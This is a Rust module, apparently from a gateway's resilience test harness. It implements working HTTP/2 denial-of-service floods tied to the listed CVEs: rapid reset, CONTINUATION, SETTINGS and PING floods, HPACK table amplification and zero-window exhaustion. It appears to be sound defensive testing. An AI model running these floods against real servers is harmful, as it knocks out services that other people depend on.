//! HTTP/2 clients that obey its frames and not its purpose, over TLS: streams that are reset at once, headers without an end, settings
//! and pings without a pause, tables that grow when they are unpacked, windows that never open (RFC 9113 §10.5; CVE-2019-9511 to 9518,
//! CVE-2023-44487, CVE-2024-27316).
//!
//! Each connection ends when the server ends it, or after a while.

use std::io::Read as _;
use std::net::SocketAddr;
use std::time::Duration;

use crate::clock::{Started, sleep};
use crate::harness::attack::Stage;
use crate::harness::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW, PING, PREFACE, RST_STREAM, SETTINGS,
    WINDOW_UPDATE, fields, frame, literal, setting, string,
};
use crate::harness::http2::Tls;

/// How long one connection is kept.
const CONNECTION_TIME_MAX: Duration = Duration::from_secs(5);
/// Between two connections: each is a process here, which costs the machine more than the flood costs the gateway.
const BETWEEN: Duration = Duration::from_millis(250);
/// Between two bursts: a flood is bounded, so that it is not the machine that is measured.
const PAUSE: Duration = Duration::from_millis(5);

/// What a client floods with.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Flood {
    /// Requests that are reset at once.
    RapidReset,
    /// One head in endless CONTINUATION frames.
    Continuation,
    /// The same in frames without an octet.
    EmptyContinuation,
    /// SETTINGS, each of which must be acknowledged.
    Settings,
    /// PINGs, each of which must be answered.
    Ping,
    /// A body of frames without an octet.
    EmptyData,
    /// Windows that grow by one.
    WindowUpdate,
    /// A large header that is named again and again in one octet each.
    Unpacked,
    /// A hundred answers that the client never takes.
    ClosedWindows,
}

/// All of them, with the words for a report.
pub const FLOODS: [(Flood, &str); 9] = [
    (Flood::RapidReset, "rapid reset"),
    (Flood::Continuation, "continuation"),
    (Flood::EmptyContinuation, "empty continuation"),
    (Flood::Settings, "settings"),
    (Flood::Ping, "ping"),
    (Flood::EmptyData, "empty data"),
    (Flood::WindowUpdate, "window update"),
    (Flood::Unpacked, "headers that unpack"),
    (Flood::ClosedWindows, "closed windows"),
];

impl Stage<'_> {
    /// One connection after the other, each flooded until the server ends it.
    pub fn flood(&self, https: SocketAddr, flood: Flood) {
        while self.goes_on() {
            self.begin();
            // A connection that cannot be had is an end as well.
            if let Ok(ended) = self.flood_once(https, flood)
                && !ended
            {
                self.keep();
            } else {
                self.end();
            }
            sleep(BETWEEN);
        }
    }

    /// Whether the server ended it.
    fn flood_once(&self, https: SocketAddr, flood: Flood) -> std::io::Result<bool> {
        let (mut tls, mut output) = Tls::connect(https)?;
        // What the server says is taken and forgotten: only closed windows are meant not to be read, and those close by frames. The
        // thread ends with the connection.
        std::thread::spawn(move || {
            let mut sink = [0; 16 * 1024];
            while output.read(&mut sink).is_ok_and(|count| count > 0) {}
        });
        let mut stream = 1;
        let mut burst = [PREFACE, &frame(SETTINGS, 0, 0, &settings(flood))].concat();
        let started = Started::now();
        loop {
            burst.extend(next(flood, &mut stream));
            if tls.send(&burst).is_err() || tls.has_ended()? {
                return Ok(true);
            }
            burst.clear();
            if !self.goes_on() || started.elapsed() > CONNECTION_TIME_MAX {
                return Ok(false);
            }
            sleep(PAUSE);
        }
    }
}

/// What is sent in one burst. `stream` is the next stream that no one has used.
fn next(flood: Flood, stream: &mut u32) -> Vec<u8> {
    let mut fresh = || {
        *stream += 2;
        *stream - 2
    };
    let is_first = |stream: u32| stream == 1;
    match flood {
        Flood::RapidReset => (0..100)
            .flat_map(|_| {
                let id = fresh();
                [
                    frame(HEADERS, END_HEADERS | END_STREAM, id, &head("GET", "/")),
                    frame(RST_STREAM, 0, id, &[0, 0, 0, 8]),
                ]
            })
            .flatten()
            .collect(),
        Flood::Continuation | Flood::EmptyContinuation => {
            let mut burst = Vec::new();
            let id = fresh();
            if is_first(id) {
                burst = frame(HEADERS, END_STREAM, 1, &head("GET", "/"));
            }
            let (count, fragment) = match flood {
                Flood::Continuation => (2, literal(b"x-a", "a".repeat(8000).as_bytes())),
                _ => (200, Vec::new()),
            };
            burst.extend((0..count).flat_map(|_| frame(CONTINUATION, 0, 1, &fragment)));
            burst
        }
        Flood::Settings => (0..200).flat_map(|_| frame(SETTINGS, 0, 0, &[])).collect(),
        Flood::Ping => (0..200).flat_map(|_| frame(PING, 0, 0, b"whimbrel")).collect(),
        Flood::EmptyData => {
            let mut burst = Vec::new();
            let id = fresh();
            if is_first(id) {
                burst = frame(HEADERS, END_HEADERS, 1, &head("POST", "/sms/json"));
            }
            burst.extend((0..200).flat_map(|_| frame(DATA, 0, 1, &[])));
            burst
        }
        Flood::WindowUpdate => (0..200).flat_map(|_| frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1])).collect(),
        Flood::Unpacked => {
            // Literal with indexing, new name: it becomes the dynamic table's first entry, index 62.
            let large = [&[0x40], string(b"x-large").as_slice(), &string("a".repeat(3900).as_bytes())].concat();
            let again = std::iter::repeat_n(0x80 | 62, 12_000);
            let block: Vec<u8> = head("GET", "/").into_iter().chain(large).chain(again).collect();
            frame(HEADERS, END_HEADERS | END_STREAM, fresh(), &block)
        }
        Flood::ClosedWindows => {
            let id = fresh();
            if is_first(id) { closed_windows(id) } else { frame(PING, 0, 0, b"whimbrel") }
        }
    }
}

fn closed_windows(first: u32) -> Vec<u8> {
    (0..100).flat_map(|at| frame(HEADERS, END_HEADERS | END_STREAM, first + 2 * at, &head("GET", "/"))).collect()
}

fn settings(flood: Flood) -> Vec<u8> {
    match flood {
        Flood::ClosedWindows => setting(INITIAL_WINDOW, 0),
        _ => Vec::new(),
    }
}

fn head(method: &str, path: &str) -> Vec<u8> {
    fields(&[(":method", method), (":scheme", "https"), (":path", path), (":authority", "localhost")])
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn heads_come_before_what_continues_them_and_streams_are_new() {
        let mut stream = 1;
        let burst = next(Flood::Continuation, &mut stream);
        assert_eq!((burst[3], burst[4]), (HEADERS, END_STREAM));
        assert_eq!(next(Flood::Continuation, &mut stream)[3], CONTINUATION);
        let mut stream = 1;
        next(Flood::RapidReset, &mut stream);
        assert_eq!(stream, 201);
    }
}
